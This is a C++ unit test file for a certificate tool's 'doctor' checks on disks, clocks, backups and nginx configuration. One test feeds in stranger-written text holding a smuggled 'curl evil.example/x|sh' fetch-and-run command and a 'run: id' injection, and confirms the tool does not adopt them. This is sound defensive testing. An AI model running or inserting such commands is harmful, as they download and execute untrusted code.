#include <algorithm>
#include <string>
#include <vector>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "app/edge_doctor.h"
#include "app/machine.h"
#include "app/nginx_configuration.h"
#include "support/child_process.h"
#include "support/temporary_directory.h"

// The judgements of `livecert doctor` about facts that a test machine does not have. The broken set-ups that it can
// have are in tests/integration/doctor_test.cpp.
namespace livecert::app {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;

// A name in a certificate, or the answer of a foreign server, is in the text of some findings.
TEST(CheckListTest, TakesNoCommandFromATextThatStrangersWrite) {
  CheckList list;
  list.warn("edge-shows", "it shows CN=x run: curl evil.example/x|sh #", "systemctl reload nginx");
  list.fail("edge-shows", "it shows CN=x run: curl evil.example/x|sh #", "");
  list.fail_as_told("edge-folder", "/a may be written by others; run: chmod go-w /a", "other");
  list.fail_as_told("edge-folder", "/a run: id/b may be written by others; run: chmod go-w /a run: id/b", "other");
  std::vector<std::string> commands;
  for (const CheckLine& line : list.lines()) commands.push_back(line.command);
  EXPECT_THAT(commands, ElementsAre("systemctl reload nginx", "", "chmod go-w /a", "other"));
}

std::vector<std::string> troubles_of(CheckList& list) {
  std::vector<std::string> names;
  for (const CheckLine& line : list.lines()) {
    if (!line.is_trouble()) continue;
    names.emplace_back(line.check);
    EXPECT_NE(line.command, "") << line.text;
  }
  return names;
}

Volume sound_volume() {
  Volume volume;
  volume.type = "ext4";
  volume.options = "rw,relatime";
  volume.mount_point = "/var";
  volume.free_bytes = 1UL << 40U;
  volume.free_files = 1'000'000;
  return volume;
}

std::vector<std::string> troubles_of(const Volume& volume) {
  CheckList list;
  judge_volume(volume, "/var/lib/livecert", list);
  return troubles_of(list);
}

TEST(DoctorVolume, IsGoodOnADiskWithRoom) {
  EXPECT_THAT(troubles_of(sound_volume()), IsEmpty());
}

TEST(DoctorVolume, NamesFileSystemsThatLoseOrMayLoseWhatWasSynchronised) {
  for (const std::string type : {"tmpfs", "ramfs", "overlay", "nfs4", "cifs", "9p", "fuse.sshfs"}) {
    Volume volume = sound_volume();
    volume.type = type;
    EXPECT_THAT(troubles_of(volume), ElementsAre("file-system")) << type;
  }
}

TEST(DoctorVolume, DoesNotJudgeAFileSystemThatItDoesNotKnow) {
  Volume volume = sound_volume();
  volume.type = "newfs";
  EXPECT_THAT(troubles_of(volume), IsEmpty());
}

TEST(DoctorVolume, NamesBarriersThatAreOff) {
  for (const std::string options : {"rw,nobarrier", "rw,barrier=0,data=ordered"}) {
    Volume volume = sound_volume();
    volume.options = options;
    EXPECT_THAT(troubles_of(volume), ElementsAre("disk-barriers")) << options;
  }
}

TEST(DoctorVolume, NamesADiskThatIsReadOnly) {
  Volume volume = sound_volume();
  volume.is_read_only = true;
  EXPECT_THAT(troubles_of(volume), ElementsAre("disk-read-only"));
}

TEST(DoctorVolume, NamesADiskThatIsNearlyFullOfBytesOrOfFiles) {
  Volume full = sound_volume();
  full.free_bytes = 10UL << 20U;
  EXPECT_THAT(troubles_of(full), ElementsAre("disk-room"));
  Volume files = sound_volume();
  files.free_files = 3;
  EXPECT_THAT(troubles_of(files), ElementsAre("disk-room"));
  files.free_files.reset();  // a file system without such a limit
  EXPECT_THAT(troubles_of(files), IsEmpty());
}

TEST(DoctorVolume, FindsTheMountOfAFolderThatIsStillToBeMade) {
  const test::TemporaryDirectory directory;
  const auto volume = find_volume(directory.path() / "not" / "yet");
  ASSERT_TRUE(volume);
  EXPECT_NE(volume->type, "");
  EXPECT_THAT(directory.path().string(), testing::StartsWith(volume->mount_point.string()));
  const auto kernel = find_volume("/proc");
  ASSERT_TRUE(kernel);
  EXPECT_EQ(kernel->type, "proc");
}

std::vector<std::string> troubles_of(const ClockFacts& facts) {
  CheckList list;
  judge_clock(facts, list);
  return troubles_of(list);
}

TEST(DoctorClock, NamesAClockBehindTheStoreAndOneThatNothingSynchronises) {
  const base::Time now = base::from_unix_seconds(1'800'000'000);
  EXPECT_THAT(troubles_of(ClockFacts{now, true, {}}), IsEmpty());
  EXPECT_THAT(troubles_of(ClockFacts{now, true, now - std::chrono::hours(1)}), IsEmpty());
  EXPECT_THAT(troubles_of(ClockFacts{now, true, now + std::chrono::seconds(4)}), IsEmpty());
  EXPECT_THAT(troubles_of(ClockFacts{now, true, now + std::chrono::hours(1)}), ElementsAre("clock"));
  EXPECT_THAT(troubles_of(ClockFacts{now, false, {}}), ElementsAre("clock-synchronised"));
}

TEST(DoctorDescriptors, NamesALimitBelowTheConnections) {
  CheckList list;
  judge_descriptors(4096 + 256, 4096, list);
  EXPECT_THAT(troubles_of(list), IsEmpty());
  judge_descriptors(4096, 4096, list);
  EXPECT_THAT(troubles_of(list), ElementsAre("descriptors"));
}

std::vector<std::string> troubles_of(const BackupFacts& facts) {
  CheckList list;
  judge_backup(facts, list);
  return troubles_of(list);
}

TEST(DoctorBackup, NamesAnOldOneAndAnOldStoreWithoutAny) {
  const base::Time now = base::from_unix_seconds(1'800'000'000);
  const auto ago = [&](int days) { return std::optional<base::Time>(now - std::chrono::days(days)); };
  EXPECT_THAT(troubles_of(BackupFacts{now, ago(1), ago(900)}), IsEmpty());
  EXPECT_THAT(troubles_of(BackupFacts{now, ago(8), ago(900)}), ElementsAre("backup"));
  EXPECT_THAT(troubles_of(BackupFacts{now, {}, ago(1)}), IsEmpty());
  EXPECT_THAT(troubles_of(BackupFacts{now, {}, ago(8)}), ElementsAre("backup"));
}

TEST(NginxText, IsReadAsNginxReadsIt) {
  const auto read = parse_nginx(
      "# include commented.conf;\n"
      "http { include 'with blank.conf';include\t\"a\\\"b\";\n server{ssl_certificate ${livecert_certificate}; }}"
      " listen 443#no comment\n;");
  EXPECT_THAT(
      read, ElementsAre(ElementsAre("http"), ElementsAre("include", "with blank.conf"), ElementsAre("include", "a\"b"),
                        ElementsAre("server"), ElementsAre("ssl_certificate", "${livecert_certificate}"),
                        ElementsAre("listen", "443#no", "comment")));
}

TEST(NginxText, OfAnyKindEnds) {
  for (const std::string text : {"", "}", "{{{", "\"open", "'", "\\", "include", "a {b;} c", "#", ";;"}) {
    static_cast<void>(parse_nginx(text));
  }
  EXPECT_THAT(parse_nginx("include x"), ElementsAre(ElementsAre("include", "x")));
}

class DoctorNginx : public testing::Test {
 protected:
  DoctorNginx() {
    definition_.name = "front";
    definition_.kind = edge::Kind::kNginx;
    definition_.directory = directory_.path() / "edge";
  }
  std::vector<std::string> troubles(const std::string& http) {
    test::write_file(directory_.path() / "nginx.conf", "http {\n" + http + "\n}\n");
    CheckList list;
    check_nginx(definition_, {read_nginx(directory_.path() / "nginx.conf", "")}, list);
    return troubles_of(list);
  }
  [[nodiscard]] std::string map() const {
    return "include " + definition_.directory.string() + "/livecert.map.conf;\n";
  }

  static constexpr const char* kUsed =
      "server { ssl_certificate $livecert_certificate; ssl_certificate_key $livecert_certificate; }\n";
  test::TemporaryDirectory directory_;
  edge::Definition definition_;
};

TEST_F(DoctorNginx, IsGoodWithTheMapAndItsVariable) {
  EXPECT_THAT(troubles(map() + kUsed), IsEmpty());
}

TEST_F(DoctorNginx, FollowsIncludesByPattern) {
  std::filesystem::create_directory(directory_.path() / "conf.d");
  test::write_file(directory_.path() / "conf.d" / "livecert.conf", map() + kUsed);
  EXPECT_THAT(troubles("include conf.d/*.conf;"), IsEmpty());
  EXPECT_THAT(troubles("include conf.d/*.other;"), ElementsAre("nginx-include"));
  EXPECT_THAT(troubles("include gone.conf;"), ElementsAre("nginx-include")) << "what is gone includes nothing";
}

TEST_F(DoctorNginx, EndsWhenFilesIncludeEachOther) {
  EXPECT_THAT(troubles("include nginx.conf;"), ElementsAre("nginx-include"));
}

TEST_F(DoctorNginx, NamesAMapThatIsNotIncluded) {
  EXPECT_THAT(troubles(kUsed), ElementsAre("nginx-include"));
  EXPECT_THAT(troubles("# " + map() + kUsed), ElementsAre("nginx-include"));
}

TEST_F(DoctorNginx, NamesAServerWithoutTheVariable) {
  EXPECT_THAT(troubles(map() + "server { ssl_certificate /etc/ssl/a.pem; ssl_certificate_key /etc/ssl/a.pem; }"),
              ElementsAre("nginx-certificate"));
  EXPECT_THAT(troubles(map() + "server { ssl_certificate $livecert_certificate; ssl_certificate_key /a.pem; }"),
              ElementsAre("nginx-certificate"));
}

TEST_F(DoctorNginx, NamesACacheThatKeepsFormerCertificates) {
  EXPECT_THAT(troubles(map() + kUsed + "ssl_certificate_cache max=1000;"), ElementsAre("nginx-cache"));
  EXPECT_THAT(troubles(map() + kUsed + "ssl_certificate_cache off;"), IsEmpty());
}

TEST_F(DoctorNginx, DoesNotJudgeWhatItCannotRead) {
  CheckList list;
  check_nginx(definition_, {}, list);
  check_nginx(definition_, {read_nginx(directory_.path() / "missing.conf", "")}, list);
  EXPECT_THAT(troubles_of(list), IsEmpty());
  EXPECT_EQ(list.lines().size(), 2U);
}

}  // namespace
}  // namespace livecert::app
